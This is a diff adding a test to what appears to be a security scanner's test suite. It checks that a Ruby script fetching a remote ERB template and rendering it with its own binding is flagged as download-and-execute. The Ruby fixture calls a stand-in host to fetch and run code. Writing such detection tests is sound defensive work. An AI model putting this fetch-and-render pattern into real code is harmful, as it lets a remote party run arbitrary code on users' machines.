@@ -621,3 +621,23 @@ def test_a_builtin_named_in_a_config_beside_the_script_that_runs_decoded_code_is
     prints = {"tools/warm.py": WARM, "tools/settings.json": json.dumps({"hook": "print", "payload": payload})}
     assert (decode, 9) in [(r, line) for _, r, _, line, _ in found(runs)]
     assert decode not in [r for _, r, _, _, _ in found(prints)]
+
+
+# --- 21. a downloaded template rendered with the script's binding runs the Ruby its tags hold ---------------------
+
+ERB_BAD = """require "erb"
+require "open-uri"
+
+layout = URI.open("https://themes.docgen-kit.example/page.erb").read
+page = ERB.new(layout)
+File.write("out.html", page.result(binding))
+"""
+ERB_GOOD = ERB_BAD.replace(
+    'URI.open("https://themes.docgen-kit.example/page.erb").read', 'File.read(File.join(__dir__, "page.erb"))'
+)
+
+
+def test_a_downloaded_erb_template_rendered_is_stopped_and_a_shipped_one_passes(tmp_path, env):  # noqa: F811
+    stopped_at_line_and_twin_quiet(
+        tmp_path, env, "bin/render.rb", ERB_BAD, ERB_GOOD, "skillscope/obfuscation/download-exec", 6
+    )
